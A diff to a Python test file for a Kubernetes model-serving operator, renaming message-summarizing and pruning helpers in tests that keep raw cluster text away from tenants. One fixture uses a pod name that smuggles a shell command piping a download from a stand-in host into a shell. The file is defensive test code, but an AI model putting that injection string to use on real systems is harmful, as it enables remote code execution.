@@ -13,11 +13,18 @@ from kubeloop.conditions import condition
 from kubeloop.errors import ClientError, Defect, Forbidden, Invalid, KubeconfigError, Unreachable
 from kubeloop.objects import Manifest
 from kubeloop.plan import Apply, Failure
-from kubeloop.remote_messages import meaning, refused, worded
+from kubeloop.remote_messages import describe_rejection, sanitize, translate_message
 from modelplane_operator.api.labels import POOL
-from modelplane_operator.models.cache.hydration import cut_claim, cut_job, trouble
-from modelplane_operator.models.replica.plan.nodes import Unfit, why_not_ready
-from modelplane_operator.models.replica.plan.symptoms import cut_pod, refusal, symptoms, told, unfinished, unrouted
+from modelplane_operator.models.cache.hydration import find_problem, prune_claim, prune_job
+from modelplane_operator.models.replica.plan.nodes import Unfit, describe_not_ready
+from modelplane_operator.models.replica.plan.symptoms import (
+    describe_unfinished,
+    describe_unrouted,
+    prune_pod,
+    refusal,
+    summarize,
+    symptoms,
+)
 
 CANARY = "10.9.8.7 team=red accounts/of-the-platform"
 SAYS = {"status": "False", "reason": "Because", "message": CANARY, "observedGeneration": 1}
@@ -56,13 +63,13 @@ FROM_STEP: Manifest = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"na
 @pytest.mark.parametrize(
     "say",
     [
-        lambda: told(symptoms([pod(conditions=[{**SAYS, "type": "PodScheduled"}])])),
-        lambda: told(symptoms([container(waiting={"reason": "ImagePullBackOff", "message": CANARY})])),
-        lambda: told(symptoms([container(waiting={"reason": "CreateContainerError", "message": CANARY})])),
-        lambda: told(symptoms([container(terminated={"reason": CANARY, "message": CANARY, "exitCode": 1})])),
-        lambda: told(symptoms([pod(phase="Failed", reason="Evicted", message=CANARY)])),
-        lambda: unfinished(workload("ReplicaFailure", "True"), 1),
-        lambda: unrouted(
+        lambda: summarize(symptoms([pod(conditions=[{**SAYS, "type": "PodScheduled"}])])),
+        lambda: summarize(symptoms([container(waiting={"reason": "ImagePullBackOff", "message": CANARY})])),
+        lambda: summarize(symptoms([container(waiting={"reason": "CreateContainerError", "message": CANARY})])),
+        lambda: summarize(symptoms([container(terminated={"reason": CANARY, "message": CANARY, "exitCode": 1})])),
+        lambda: summarize(symptoms([pod(phase="Failed", reason="Evicted", message=CANARY)])),
+        lambda: describe_unfinished(workload("ReplicaFailure", "True"), 1),
+        lambda: describe_unrouted(
             {
                 "metadata": {"generation": 1},
                 "spec": {"parentRefs": [GATEWAY]},
@@ -75,15 +82,17 @@ FROM_STEP: Manifest = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"na
                 "status": {"ancestors": [{"conditions": [{**SAYS, "type": "Accepted"}]}]},
             }
         ),
-        lambda: trouble([pod(phase="Failed", reason="Evicted", message=CANARY)]),
-        lambda: trouble([failed(reason="ContainerCannotRun", message=CANARY, exitCode=1)]),
-        lambda: trouble([failed(message=CANARY, exitCode=137)]),
-        lambda: strands.told([Failure(Apply(FROM_STEP, "berlin"), Invalid(CANARY))], to_tenants=True),
-        lambda: strands.told([Failure(Apply(FROM_STEP, "berlin"), Unreachable(CANARY))], to_tenants=True),
-        lambda: strands.told([Failure(None, Forbidden(CANARY))], to_tenants=True),
-        lambda: refused(KubeconfigError(CANARY)),
-        lambda: why_not_ready({"status": {"conditions": [{"type": "Ready", "status": "False", "reason": CANARY}]}}),
-        lambda: why_not_ready(
+        lambda: find_problem([pod(phase="Failed", reason="Evicted", message=CANARY)]),
+        lambda: find_problem([failed(reason="ContainerCannotRun", message=CANARY, exitCode=1)]),
+        lambda: find_problem([failed(message=CANARY, exitCode=137)]),
+        lambda: strands.summarize([Failure(Apply(FROM_STEP, "berlin"), Invalid(CANARY))], to_tenants=True),
+        lambda: strands.summarize([Failure(Apply(FROM_STEP, "berlin"), Unreachable(CANARY))], to_tenants=True),
+        lambda: strands.summarize([Failure(None, Forbidden(CANARY))], to_tenants=True),
+        lambda: describe_rejection(KubeconfigError(CANARY)),
+        lambda: describe_not_ready(
+            {"status": {"conditions": [{"type": "Ready", "status": "False", "reason": CANARY}]}}
+        ),
+        lambda: describe_not_ready(
             {"status": {"conditions": [{"type": "Ready", "status": "False", "lastTransitionTime": CANARY}]}}
         ),
     ],
@@ -130,12 +139,12 @@ def running(name: str = "a", container: str = "engine", path: str = "/health", *
 )
 def test_what_is_shown_as_it_came_is_what_kubernetes_allows_there(pod: Manifest, words: str) -> None:
     log = "its log says more: kubectl logs -n n a -c engine"
-    assert told(symptoms([cut_pod(pod)])) == words.replace("LOG", log)
+    assert summarize(symptoms([prune_pod(pod)])) == words.replace("LOG", log)
 
 
 def test_an_object_whose_name_is_none_is_kept_by_no_informer() -> None:
     bad = running(name="p; curl evil|sh #")
-    assert not [one for one in (cut_pod, cut_job, cut_claim) if "name" in one(bad)["metadata"]]
+    assert not [one for one in (prune_pod, prune_job, prune_claim) if "name" in one(bad)["metadata"]]
 
 
 def test_a_condition_says_nothing_where_it_has_no_text() -> None:
@@ -152,12 +161,12 @@ def test_a_command_is_one_whatever_its_names_are() -> None:
 def test_a_node_whose_name_is_none_is_not_named() -> None:
     ready = {"type": "Ready", "status": "False"}
     node = {"metadata": {"name": EVIL, "labels": {POOL: "p"}}, "status": {"conditions": [ready]}}
-    assert Unfit((node,)).kept_from({"spec": {"nodeSelector": {POOL: "p"}}}) == ""
+    assert Unfit((node,)).describe_taints({"spec": {"nodeSelector": {POOL: "p"}}}) == ""
 
 
 def test_what_the_platform_team_reads_has_the_clusters_words() -> None:
-    assert CANARY in strands.told([Failure(Apply(FROM_STEP, "berlin"), Invalid(CANARY))])
-    assert CANARY in strands.told([Failure(Apply(FROM_STEP, "hub"), Invalid(CANARY))], to_tenants=False)
+    assert CANARY in strands.summarize([Failure(Apply(FROM_STEP, "berlin"), Invalid(CANARY))])
+    assert CANARY in strands.summarize([Failure(Apply(FROM_STEP, "hub"), Invalid(CANARY))], to_tenants=False)
 
 
 @pytest.mark.parametrize(
@@ -180,11 +189,11 @@ def test_what_the_platform_team_reads_has_the_clusters_words() -> None:
     ],
 )
 def test_what_is_known_of_a_message_is_told_in_words_of_ours(said: str, words: str) -> None:
-    assert meaning(said) == words
+    assert translate_message(said) == words
 
 
 def test_a_reason_is_one_word() -> None:
-    assert [worded(one) for one in ("FailedCreate", "see http://a", 7, None, "A" * 64)] == [
+    assert [sanitize(one) for one in ("FailedCreate", "see http://a", 7, None, "A" * 64)] == [
         "FailedCreate",
         "",
         "",
@@ -203,16 +212,16 @@ def test_a_reason_is_one_word() -> None:
     ],
 )
 def test_an_error_says_what_it_is(error: ClientError, words: str) -> None:
-    assert refused(error) == words
+    assert describe_rejection(error) == words
 
 
 async def test_that_a_cluster_is_slow_is_told_in_words_of_ours() -> None:
     with pytest.raises(Unreachable) as raised:
-        async with strands.ended_by(0):
+        async with strands.deadline_at(0):
             await asyncio.Event().wait()
-    assert strands.told([Failure(None, raised.value)], to_tenants=True) == strands.SLOW
+    assert strands.summarize([Failure(None, raised.value)], to_tenants=True) == strands.SLOW
 
 
 def test_words_cost_no_more_than_they_are_read() -> None:
     hostile = json.dumps(["1 node(s) admission webhook " * 50_000])
-    assert meaning(hostile) == ""
+    assert translate_message(hostile) == ""
